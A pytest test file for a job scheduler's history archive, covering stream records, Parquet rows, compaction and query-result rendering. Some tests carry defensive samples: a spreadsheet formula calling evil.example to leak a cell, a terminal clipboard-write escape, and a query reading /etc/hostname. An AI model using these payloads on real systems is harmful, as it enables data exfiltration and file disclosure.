"""The history archive's pure parts: which stream records become rows, how a batch becomes
objects, the Parquet files, compaction planning, and both query engines' result handling."""

from __future__ import annotations

import io
import json
import math
import signal
import threading
import time
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from duetime.adapters.codec import run_to_values, to_item
from duetime.domain.jobs import Priority, Runtime
from duetime.domain.runs import Attempt, Run, RunStatus
from duetime.history.archive import (
    TTL_USER_IDENTITY,
    Rejected,
    StoredObject,
    failure_message,
    is_ttl_expiry,
    object_key,
    parquet_bytes,
    plan_batch,
    row_from_image,
    to_table,
)
from duetime.history.compaction import compacted_key, plan_merges, settled_days
from duetime.history.query import (
    AthenaEngine,
    HistoryQueryError,
    QueryResult,
    archive_schema,
    duckdb_query,
    render,
)
from duetime.history.schema import (
    HISTORY_SCHEMA,
    conform,
    glue_columns,
    glue_partition_keys,
    partition_from_key,
    partition_of,
    partition_prefix,
)
from duetime.history.settings import ArchiverSettings
from duetime.settings import Env, QueueUrls, Settings, queue_key

DAY1_MS = 1_795_219_200_000  # 2026-11-21T00:00:00Z
DAY2_MS = DAY1_MS + 86_400_000


def a_run(job_id: str = "JOB1", scheduled_ms: int = DAY1_MS + 5_000, **changes: Any) -> Run:
    values: dict[str, Any] = {
        "tenant": "tenant-a",
        "job_id": job_id,
        "scheduled_ms": scheduled_ms,
        "status": RunStatus.SUCCEEDED,
        "attempt": 2,
        "attempts": (
            Attempt(1, scheduled_ms + 40, 40, scheduled_ms + 90, "HTTP 500", early_wait_ms=7),
            Attempt(2, scheduled_ms + 2_100, 2_100, scheduled_ms + 2_350, None),
        ),
        "expires_at": scheduled_ms // 1000 + 30 * 86_400,
        "job_name": "nightly",
        "target_type": "http",
        "priority": "high",
        "runtime": "fargate",
    }
    values.update(changes)
    return Run(**values)


def image(run: Run) -> dict[str, Any]:
    return to_item(run_to_values(run))


def record(
    sequence: int,
    old_image: dict[str, Any] | None,
    *,
    event: str = "REMOVE",
    identity: dict[str, str] | None = TTL_USER_IDENTITY,
) -> dict[str, Any]:
    change: dict[str, Any] = {
        "Keys": {"job_id": {"S": "k"}, "scheduled_ms": {"N": "1"}},
        "SequenceNumber": str(sequence),
        "SizeBytes": 100,
        "StreamViewType": "OLD_IMAGE",
    }
    if old_image is not None:
        change["OldImage"] = old_image
    rec: dict[str, Any] = {
        "eventID": f"e{sequence}",
        "eventName": event,
        "eventSource": "aws:dynamodb",
        "dynamodb": change,
        "eventSourceARN": "arn:aws:dynamodb:us-east-1:123456789012:table/duetime-runs/stream/x",
    }
    if identity is not None:
        rec["userIdentity"] = dict(identity)
    return rec


# --- which records are archived --------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "identity", "expected"),
    [
        ("REMOVE", {"type": "Service", "principalId": "dynamodb.amazonaws.com"}, True),
        ("REMOVE", {"Type": "Service", "PrincipalId": "dynamodb.amazonaws.com"}, True),
        ("REMOVE", None, False),  # a user's DeleteItem carries no identity
        ("REMOVE", {"type": "Service", "principalId": "other.amazonaws.com"}, False),
        ("REMOVE", {"type": "User", "principalId": "dynamodb.amazonaws.com"}, False),
        ("MODIFY", {"type": "Service", "principalId": "dynamodb.amazonaws.com"}, False),
        ("INSERT", None, False),
    ],
)
def test_only_removes_by_the_ttl_service_are_expirations(
    event: str, identity: dict[str, str] | None, expected: bool
) -> None:
    assert is_ttl_expiry(record(1, image(a_run()), event=event, identity=identity)) is expected


def test_a_run_record_becomes_a_row_with_its_final_state() -> None:
    run = a_run()
    assert row_from_image(image(run)) == {
        "run_id": f"JOB1-{DAY1_MS + 5_000}",
        "job_id": "JOB1",
        "tenant": "tenant-a",
        "job_name": "nightly",
        "target_type": "http",
        "priority": "high",
        "runtime": "fargate",
        "scheduled_for": DAY1_MS + 5_000,
        "started_at": DAY1_MS + 5_040,  # the first attempt's start
        "finished_at": DAY1_MS + 7_350,  # the last attempt's end
        "lateness_ms": 40,
        "duration_ms": 250,  # the last attempt
        "attempts": 2,
        "status": "succeeded",
        "error": None,  # the last attempt's
        "early_wait_ms": 7,  # the first attempt's
        "due_at": DAY1_MS + 5_000,  # not jittered: its scheduled instant
    }


def test_a_run_keeps_the_instant_it_was_due_which_its_lateness_counts_from() -> None:
    """(The archive had `scheduled_for` only, before the jitter: an outside audit.)"""
    jittered = a_run(due_ms=DAY1_MS + 65_000)
    row = row_from_image(image(jittered))
    assert (row["scheduled_for"], row["due_at"]) == (DAY1_MS + 5_000, DAY1_MS + 65_000)
    [stored] = to_table([row]).to_pylist()
    assert stored["due_at"] == datetime.fromtimestamp((DAY1_MS + 65_000) / 1000, UTC)


def test_a_run_that_never_started_has_empty_timings() -> None:
    row = row_from_image(image(a_run(attempts=(), status=RunStatus.FAILED, job_name=None)))
    assert row["started_at"] is None
    assert row["finished_at"] is None
    assert row["duration_ms"] is None
    assert row["job_name"] is None


# --- a batch becomes objects -----------------------------------------------------------------


def test_a_batch_is_grouped_by_day_and_named_after_its_sequence_numbers() -> None:
    records = [
        record(101, None, event="INSERT", identity=None),
        record(102, image(a_run("A", DAY1_MS + 1))),
        record(103, image(a_run("B", DAY2_MS + 1))),
        record(104, image(a_run("C", DAY1_MS + 2))),
        record(105, image(a_run("D", DAY1_MS + 3)), identity=None),  # a user's delete
    ]
    plan = plan_batch(records)
    assert [(o.key, o.dt, [r["job_id"] for r in o.rows]) for o in plan.objects] == [
        ("history/dt=2026-11-21/101-105.parquet", "2026-11-21", ["A", "C"]),
        ("history/dt=2026-11-22/101-105.parquet", "2026-11-22", ["B"]),
    ]
    assert plan.ignored == 2
    assert plan.rejected == ()
    assert plan.rows == 3


def test_the_same_batch_gives_the_same_objects_so_a_retry_overwrites() -> None:
    records = [record(7, image(a_run("A"))), record(9, image(a_run("B", DAY2_MS)))]
    assert plan_batch(records) == plan_batch(json.loads(json.dumps(records)))


def test_a_batch_of_live_changes_writes_nothing() -> None:
    plan = plan_batch([record(1, None, event="MODIFY", identity=None)])
    assert plan.objects == ()
    assert plan.ignored == 1


@pytest.mark.parametrize(
    ("old_image", "reason"),
    [
        (None, "no OldImage"),
        ({k: v for k, v in image(a_run()).items() if k != "status"}, "lacks attribute 'status'"),
        ({**image(a_run()), "status": {"S": "exploded"}}, "'exploded' is not a valid RunStatus"),
        ({**image(a_run()), "scheduled_ms": {"S": "soon"}}, "scheduled_for has an invalid value"),
        ({**image(a_run()), "tenant": {"N": "7"}}, "tenant has an invalid value"),
        ({**image(a_run()), "scheduled_ms": {"N": "-1"}}, "scheduled_for has an invalid value"),
        ({**image(a_run()), "attempts": {"S": "x"}}, "cannot be decoded"),
        ({"status": {"BOGUS": "x"}}, "cannot be decoded"),
        # Past int64, or text that is not Unicode: they passed the check and failed the
        # Parquet file, the whole batch with them (an archive audit, round two).
        (
            image(a_run(attempts=(Attempt(1, DAY1_MS + 5_000, 2**63, DAY1_MS + 6_000),))),
            "lateness_ms has an invalid value",
        ),
        ({**image(a_run()), "job_name": {"S": "bad \ud800 name"}}, "job_name has an invalid"),
    ],
)
def test_a_malformed_record_is_rejected_with_its_sequence_number_and_the_rest_kept(
    old_image: dict[str, Any] | None, reason: str
) -> None:
    records = [
        record(1, image(a_run("A"))),
        record(2, old_image),
        record(3, image(a_run("B"))),
    ]
    plan = plan_batch(records)
    assert [r["job_id"] for o in plan.objects for r in o.rows] == ["A", "B"]
    assert [o.key for o in plan.objects] == ["history/dt=2026-11-21/1-3.parquet"]
    assert len(plan.rejected) == 1
    assert plan.rejected[0].sequence_number == "2"
    assert reason in plan.rejected[0].reason
    assert plan.rejected[0].record is records[1]


def test_records_without_a_usable_shape_are_rejected_not_raised() -> None:
    no_sequence = record(5, image(a_run()))
    del no_sequence["dynamodb"]["SequenceNumber"]
    plan = plan_batch(["junk", {"dynamodb": {}}, no_sequence, record(6, image(a_run()))])
    assert [(r.sequence_number, r.reason) for r in plan.rejected] == [
        ("", "not a stream record: no eventName"),
        ("", "not a stream record: no eventName"),
        ("", "no valid dynamodb.SequenceNumber"),
    ]
    assert [o.key for o in plan.objects] == ["history/dt=2026-11-21/6-6.parquet"]


def test_the_failure_message_names_the_record_and_why() -> None:
    rec = record(42, None)
    body = json.loads(failure_message(Rejected("42", "no OldImage", rec)))
    assert body["source"] == "duetime.archiver"
    assert body["sequenceNumber"] == "42"
    assert body["reason"] == "no OldImage"
    assert body["eventID"] == "e42"
    assert body["record"] == rec
    huge = record(43, {"error": {"S": "x" * 20_000}})
    body = json.loads(failure_message(Rejected("43", "r", huge)))
    assert "record" not in body
    assert body["recordOmitted"].endswith("characters")


def test_settings_carry_the_history_bucket_and_failure_queue_only_when_set() -> None:
    queues = {queue_key(r, p): QueueUrls("u", "d") for r in Runtime for p in Priority}
    plain = Settings("j", "t", "r", queues)
    assert Env.HISTORY_BUCKET not in plain.to_env()
    assert Settings.from_env(plain.to_env()) == plain
    full = Settings("j", "t", "r", queues, history_bucket="b", archive_failure_queue_url="q")
    assert full.to_env()[Env.HISTORY_BUCKET] == "b"
    assert Settings.from_env(full.to_env()) == full
    assert Settings.from_env({**full.to_env(), Env.RUN_TTL_SECONDS: "5"}).run_ttl_seconds == 5


def test_archiver_settings_name_what_is_missing() -> None:
    with pytest.raises(RuntimeError, match="DUETIME_HISTORY_BUCKET, DUETIME_ARCHIVE_FAILURE"):
        ArchiverSettings.from_env({})
    assert ArchiverSettings.from_env(
        {"DUETIME_HISTORY_BUCKET": "b", "DUETIME_ARCHIVE_FAILURE_QUEUE_URL": "q"}
    ) == ArchiverSettings("b", "q")


# --- Parquet and the schema ------------------------------------------------------------------


def test_rows_round_trip_through_zstd_parquet_with_the_history_schema() -> None:
    rows = [row_from_image(image(a_run("A"))), row_from_image(image(a_run("B", attempts=())))]
    data = parquet_bytes(to_table(rows), {"k": "v"})
    parquet = pq.ParquetFile(io.BytesIO(data))
    assert parquet.metadata.row_group(0).column(0).compression == "ZSTD"
    table = parquet.read()
    assert table.schema.equals(HISTORY_SCHEMA, check_metadata=False)
    assert table.schema.metadata[b"k"] == b"v"
    first = table.to_pylist()[0]
    assert first["scheduled_for"] == datetime(2026, 11, 21, 0, 0, 5, tzinfo=UTC)
    assert first["lateness_ms"] == 40
    assert table.to_pylist()[1]["started_at"] is None


def test_the_glue_columns_cover_every_file_column_and_dt_is_the_partition() -> None:
    assert [name for name, _ in glue_columns()] == HISTORY_SCHEMA.names
    assert dict(glue_columns())["scheduled_for"] == "timestamp"
    assert dict(glue_columns())["attempts"] == "int"
    assert glue_partition_keys() == [("dt", "string")]


def test_partitions_are_utc_days_in_one_exact_form() -> None:
    assert partition_of(DAY2_MS - 1) == "2026-11-21"
    assert partition_of(DAY2_MS) == "2026-11-22"
    assert partition_prefix("2026-11-21") == "history/dt=2026-11-21/"
    for bad in ("2026-11-31", "2026-1-2", "yesterday", "2026-11-21/../x"):
        with pytest.raises(ValueError, match="YYYY-MM-DD"):
            partition_prefix(bad)
    assert partition_from_key("history/dt=2026-11-21/1-2.parquet") == "2026-11-21"
    assert partition_from_key("history/dt=nope/1-2.parquet") is None
    assert partition_from_key("elsewhere/dt=2026-11-21/1-2.parquet") is None
    assert object_key("2026-11-21", "1", "2") == "history/dt=2026-11-21/1-2.parquet"


def test_older_files_are_conformed_to_the_current_schema() -> None:
    old = to_table([row_from_image(image(a_run()))]).drop_columns(["duration_ms", "early_wait_ms"])
    conformed = conform(old.append_column("extra", pa.array([1])))
    assert conformed.schema.equals(HISTORY_SCHEMA)
    assert conformed.column("duration_ms").to_pylist() == [None]
    assert conformed.column("early_wait_ms").to_pylist() == [None]
    before_due_at = to_table([row_from_image(image(a_run()))]).drop_columns(["due_at"])
    assert conform(before_due_at).column("due_at").to_pylist() == [None]


# --- compaction planning ---------------------------------------------------------------------


def test_small_objects_are_grouped_up_to_the_target_size_and_large_ones_left_alone() -> None:
    objects = [
        StoredObject("p/a", 40),
        StoredObject("p/b", 40),
        StoredObject("p/big", 1000),
        StoredObject("p/c", 40),
        StoredObject("p/d", 10),
    ]
    assert plan_merges(objects, small_bytes=100, target_bytes=100) == [
        ["p/a", "p/b"],
        ["p/c", "p/d"],
    ]
    assert plan_merges(objects[:1], small_bytes=100, target_bytes=100) == []
    assert plan_merges(objects, small_bytes=100, target_bytes=1000) == [
        ["p/a", "p/b", "p/c", "p/d"]
    ]


def test_the_compacted_name_depends_only_on_the_inputs() -> None:
    key = compacted_key("history/dt=2026-11-21/", ["x/b", "x/a"])
    assert key == compacted_key("history/dt=2026-11-21/", ["x/a", "x/b"])
    assert key.startswith("history/dt=2026-11-21/compacted-")
    assert key != compacted_key("history/dt=2026-11-21/", ["x/a"])


def test_the_daily_compaction_takes_the_days_that_no_longer_receive_objects() -> None:
    # 30-day hot window: runs due on 2026-10-19 expire by the end of 2026-11-18, and TTL
    # deletes them within two more days: by the end of 2026-11-20, before "today".
    assert settled_days(date(2026, 11, 21), 30 * 86_400) == [
        date(2026, 10, 19),
        date(2026, 10, 18),
        date(2026, 10, 17),
    ]
    assert settled_days(date(2026, 11, 21), 10)[0] == date(2026, 11, 17)


# --- the engines' results --------------------------------------------------------------------


def test_duckdb_accepts_athenas_percentile_spelling_and_sees_only_the_table() -> None:
    table = to_table([row_from_image(image(a_run(str(i)))) for i in range(3)])
    result = duckdb_query(
        "SELECT approx_percentile(duration_ms, 0.5) AS p50, count_if(status = 'succeeded') AS ok "
        "FROM runs",
        {"runs": table},
    )
    assert result == QueryResult(("p50", "ok"), ((250, 3),))
    with pytest.raises(HistoryQueryError, match="disabled by configuration"):
        duckdb_query("SELECT * FROM read_csv('/etc/hostname')", {"runs": table})
    with pytest.raises(HistoryQueryError, match="Parser Error"):
        duckdb_query("SELEKT 1", {})


def test_an_empty_archive_is_an_empty_table_with_every_column() -> None:
    result = duckdb_query("SELECT * FROM runs", {"runs": archive_schema().empty_table()})
    assert result.columns == (*HISTORY_SCHEMA.names, "dt")
    assert result.rows == ()


def test_results_render_as_a_table_json_or_csv() -> None:
    result = QueryResult(
        ("dt", "runs", "at", "note"),
        (("2026-11-21", 12, datetime(2026, 11, 21, 1, 2, 3, 4000, tzinfo=UTC), None),),
    )
    assert render(result) == (
        "dt          runs  at                       note\n"
        "----------  ----  -----------------------  ----\n"
        "2026-11-21    12  2026-11-21 01:02:03.004\n"
        "(1 row)\n"
    )
    assert json.loads(render(result, "json")) == [
        {"dt": "2026-11-21", "runs": 12, "at": "2026-11-21 01:02:03.004", "note": None}
    ]
    assert render(result, "csv") == "dt,runs,at,note\n2026-11-21,12,2026-11-21 01:02:03.004,\n"


def test_json_results_are_json_whatever_the_numbers_and_the_column_names() -> None:
    # (An outside CLI audit: `--json` printed NaN and Infinity, which no JSON reader takes, and
    # of two columns named alike, kept one without a word.)
    result = QueryResult(("n", "i", "j"), ((math.nan, math.inf, -math.inf),))
    assert json.loads(render(result, "json")) == [{"n": "NaN", "i": "Infinity", "j": "-Infinity"}]
    with pytest.raises(HistoryQueryError, match=r"columns share a name \(a\): name them apart"):
        render(QueryResult(("a", "a"), ((1, 2),)), "json")
    assert render(QueryResult(("a", "a"), ((1, 2),)), "csv") == "a,a\n1,2\n"  # CSV keeps both


def test_a_cell_that_would_drive_a_terminal_is_spelled_out_in_a_table_and_csv() -> None:
    # A run's error holds what its target answered: an outside audit sent a clipboard write.
    result = QueryResult(("error",), (("HTTP 500 Oops: \x1b]52;c;eA==\x07 \u202edone",),))
    for fmt in ("table", "csv"):
        shown = render(result, fmt)
        assert not any(char in shown for char in "\x1b\x07\u202e"), fmt
        assert "\\u001b]52;c;eA==\\u0007 \\u202edone" in shown, fmt
    (row,) = json.loads(render(result, "json"))  # JSON escapes them itself, and keeps them
    assert row["error"] == "HTTP 500 Oops: \x1b]52;c;eA==\x07 \u202edone"


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted_as_text() -> None:
    # A tenant names its job; the operator opens the export (an archive audit, round two).
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    result = QueryResult(
        ("job_name", "n"), ((formula, -5), ("+1", 3), ("@SUM(A1)", 0), ("-2+3", None))
    )
    lines = render(result, "csv").splitlines()
    assert lines[1:] == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5',
        "'+1,3",
        "'@SUM(A1),0",
        "'-2+3,",
    ]
    assert json.loads(render(result, "json"))[0]["job_name"] == formula  # JSON keeps it


def test_a_query_is_one_select_as_athena_takes() -> None:
    # DuckDB ran each statement and printed the last, and answered DDL (Athena refuses both).
    for sql, message in (
        ("SELECT 1 AS a; SELECT 2 AS b", "one statement"),
        ("CREATE TABLE t AS SELECT 1", "a SELECT"),
        ("DELETE FROM runs", "a SELECT"),
    ):
        with pytest.raises(HistoryQueryError, match=message):
            duckdb_query(sql, {"runs": archive_schema().empty_table()})
    assert duckdb_query("WITH a AS (SELECT 1 AS x) SELECT x FROM a;", {}).rows == ((1,),)


def test_sums_and_counts_are_right_aligned_as_numbers() -> None:
    result = duckdb_query("SELECT 'a' AS k, count_if(true) AS ok, sum(2) AS total", {})
    header, _, row, _ = render(result).splitlines()
    assert header == "k  ok  total"
    assert row == "a   1      2"


class FakeAthena:
    """Athena's API as the engine uses it: states in turn, then pages of results."""

    def __init__(self, states: list[str], pages: list[dict[str, Any]], reason: str = "") -> None:
        self.states = states
        self.pages = pages
        self.reason = reason
        self.calls: list[tuple[str, dict[str, Any]]] = []

    def start_query_execution(self, **kwargs: Any) -> dict[str, Any]:
        self.calls.append(("start", kwargs))
        return {"QueryExecutionId": "q-1"}

    def get_query_execution(self, **kwargs: Any) -> dict[str, Any]:
        state = self.states.pop(0) if len(self.states) > 1 else self.states[0]
        status = {"State": state, "StateChangeReason": self.reason}
        return {"QueryExecution": {"Status": status, "StatementType": "DML"}}

    def get_query_results(self, **kwargs: Any) -> dict[str, Any]:
        self.calls.append(("results", kwargs))
        return self.pages[0 if "NextToken" not in kwargs else int(kwargs["NextToken"])]

    def stop_query_execution(self, **kwargs: Any) -> dict[str, Any]:
        self.calls.append(("stop", kwargs))
        return {}


def athena_rows(*rows: tuple[str | None, ...]) -> list[dict[str, Any]]:
    return [{"Data": [{} if v is None else {"VarCharValue": v} for v in row]} for row in rows]


def test_athena_queries_are_polled_then_every_page_is_read() -> None:
    info = [{"Name": "dt", "Type": "varchar"}, {"Name": "runs", "Type": "bigint"}]
    pages = [
        {
            "ResultSet": {
                "Rows": athena_rows(("dt", "runs"), ("2026-11-20", "3")),
                "ResultSetMetadata": {"ColumnInfo": info},
            },
            "NextToken": "1",
        },
        {"ResultSet": {"Rows": athena_rows(("2026-11-21", None)), "ResultSetMetadata": {}}},
    ]
    athena = FakeAthena(["QUEUED", "RUNNING", "SUCCEEDED"], pages)
    sleeps: list[float] = []
    engine = AthenaEngine(athena, "wg", "db", sleep=sleeps.append)
    result = engine.query("SELECT dt, count(*) AS runs FROM runs GROUP BY dt")
    assert result == QueryResult(("dt", "runs"), (("2026-11-20", 3), ("2026-11-21", None)))
    assert athena.calls[0] == (
        "start",
        {
            "QueryString": "SELECT dt, count(*) AS runs FROM runs GROUP BY dt",
            "WorkGroup": "wg",
            "QueryExecutionContext": {"Database": "db"},
        },
    )
    assert len(sleeps) == 2
    assert [c for c, _ in athena.calls].count("results") == 2


def test_a_failed_athena_query_is_a_message() -> None:
    athena = FakeAthena(["FAILED"], [], reason="COLUMN_NOT_FOUND: line 1:8: Column 'x'")
    with pytest.raises(HistoryQueryError, match="failed: COLUMN_NOT_FOUND"):
        AthenaEngine(athena, "wg", "db", sleep=lambda s: None).query("SELECT x FROM runs")


def test_an_athena_query_past_its_timeout_is_stopped() -> None:
    now = [0.0]

    def sleep(seconds: float) -> None:
        now[0] += seconds

    athena = FakeAthena(["RUNNING"], [])
    engine = AthenaEngine(athena, "wg", "db", timeout_seconds=5, sleep=sleep, clock=lambda: now[0])
    with pytest.raises(HistoryQueryError, match="still RUNNING after 5 s: stopped"):
        engine.query("SELECT 1")
    assert athena.calls[-1] == ("stop", {"QueryExecutionId": "q-1"})


def test_a_run_of_a_past_at_from_long_ago_is_archived_under_its_day() -> None:
    # Found by review: the API takes any `at` from 1970 (a past one runs now), and the
    # archiver refused an instant before 2000 as corrupt: the run's history went to the
    # failure queue.
    long_ago = 502_243_200_000  # 1985-12-01T00:00:00Z
    plan = plan_batch([record(1, image(a_run(scheduled_ms=long_ago)))])
    assert plan.rejected == ()
    assert [o.key for o in plan.objects] == ["history/dt=1985-12-01/1-1.parquet"]


@pytest.fixture
def ctrl_c() -> Iterator[None]:
    """Python's own SIGINT handler, which raises KeyboardInterrupt: another test of the worker
    may have left its own (`duetime local` did, until it put back what it found), which
    `_thread.interrupt_main` would call instead (these tests then saw no KeyboardInterrupt)."""
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        yield
    finally:
        signal.signal(signal.SIGINT, previous)


@pytest.mark.usefixtures("ctrl_c")
def test_ctrl_c_stops_a_local_query_at_once() -> None:
    # DuckDB did not always see the signal (a query ran on for a minute), or answered "Query
    # interrupted" as an error of the SQL, exit 2 (found by an outside audit).
    import _thread

    timer = threading.Timer(0.3, _thread.interrupt_main)  # what Ctrl-C does to the main thread
    started = time.monotonic()
    timer.start()
    with pytest.raises(KeyboardInterrupt):
        duckdb_query("SELECT sum(range) FROM range(100000000000)", {})
    assert time.monotonic() - started < 6


@pytest.mark.usefixtures("ctrl_c")
def test_ctrl_c_while_the_query_is_set_up_stops_it_too(monkeypatch: pytest.MonkeyPatch) -> None:
    # A Ctrl-C while the session is set up, before the query's own thread starts, stops it
    # too: the interrupt is raised in the main thread, and the connection closed.
    import _thread

    from duetime.history import query

    check = query._one_select

    def interrupted_during_setup(con: Any, sql: str) -> None:
        _thread.interrupt_main()
        check(con, sql)

    monkeypatch.setattr(query, "_one_select", interrupted_during_setup)
    started = time.monotonic()
    with pytest.raises(KeyboardInterrupt):
        duckdb_query("SELECT sum(range) FROM range(100000000000)", {})
    assert time.monotonic() - started < 6
